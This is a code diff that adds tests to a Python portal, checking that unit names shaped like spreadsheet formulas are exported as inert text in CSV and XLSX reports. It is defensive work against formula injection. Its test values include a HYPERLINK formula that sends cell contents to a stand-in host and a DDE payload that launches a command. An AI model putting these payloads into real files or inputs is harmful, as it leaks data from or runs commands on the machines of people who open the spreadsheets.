@@ -140,3 +140,50 @@ def test_the_dashboard_inventory_form_and_report_downloads(app, client, world, d
     csv_text = client.get("/admin/plan/report?year=2026&format=csv").get_data(as_text=True)
     assert UNIT_A in csv_text and UNIT_B not in csv_text
     assert client.get("/admin/plan/report?year=2026&format=doc").status_code == 404
+
+
+FORMULA_NAME = '=HYPERLINK("http://x.test/?d="&C6,"Bấm vào đây")'
+
+
+def test_a_unit_name_that_looks_like_a_formula_is_text_in_the_reports(app, world, dataset, tmp_path):
+    """A unit named like a formula is a string cell in the XLSX and a quoted text in the CSV,
+    whose figures stay plain integers (issue 12, item 20)."""
+    from openpyxl import load_workbook
+
+    from portal.operations import accounts
+
+    accounts.update_unit(world["admin"], world["staff_a"].unit, FORMULA_NAME, True)
+    accounts.update_unit(world["admin"], world["staff_b"].unit, "@SUM(1+1)*cmd|' /C calc'!A0", True)
+    runner = app.test_cli_runner()
+    for fmt in ("csv", "xlsx"):
+        done = runner.invoke(args=["report", "2026", "--format", fmt, "--out", str(tmp_path / f"r.{fmt}")])
+        assert done.exit_code == 0, done.output
+
+    sheet = load_workbook(tmp_path / "r.xlsx").active
+    cells = {row[0].value: row for row in sheet.iter_rows() if row[0].value in (UNIT_A, UNIT_B)}
+    assert cells[UNIT_A][1].value == FORMULA_NAME and cells[UNIT_A][1].data_type == "s"
+    assert cells[UNIT_B][1].value.startswith("@SUM") and cells[UNIT_B][1].data_type == "s"
+    assert cells[UNIT_A][2].value == 8 and cells[UNIT_A][2].data_type == "n"
+    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+
+    lines = list(csv.reader(io.StringIO((tmp_path / "r.csv").read_text(encoding="utf-8"))))
+    by_code = {line[0]: line for line in lines[1:]}
+    assert by_code[UNIT_A][1] == "'" + FORMULA_NAME and by_code[UNIT_B][1].startswith("'@SUM")
+    assert by_code[UNIT_A][2:] == ["8", "9", "6", "6", "7", str(9 * PRICE), "15", "7", "18"]
+
+
+def test_every_writer_helper_keeps_text_text(tmp_path):
+    """The one helper every CSV and XLSX writer uses: each character a spreadsheet starts a
+    formula with (the manifest reader strips the tab and CR, a unit's name too; other text may not)."""
+    from openpyxl import Workbook, load_workbook
+
+    from portal.spreadsheets import append_row, csv_row
+
+    texts = ["=1+2", "+1", "-1", "@A1", "\t=1+2", "\r=1+2", "#N/A", "Phòng = 1"]
+    assert csv_row([*texts, 12, -3]) == ["'=1+2", "'+1", "'-1", "'@A1", "'\t=1+2", "'\r=1+2", "#N/A", "Phòng = 1",
+                                         12, -3]
+    book = Workbook()
+    append_row(book.active, [*texts, 12])
+    book.save(tmp_path / "t.xlsx")
+    cells = next(load_workbook(tmp_path / "t.xlsx").active.iter_rows())
+    assert [(c.value, c.data_type) for c in cells] == [*((t, "s") for t in texts), (12, "n")]
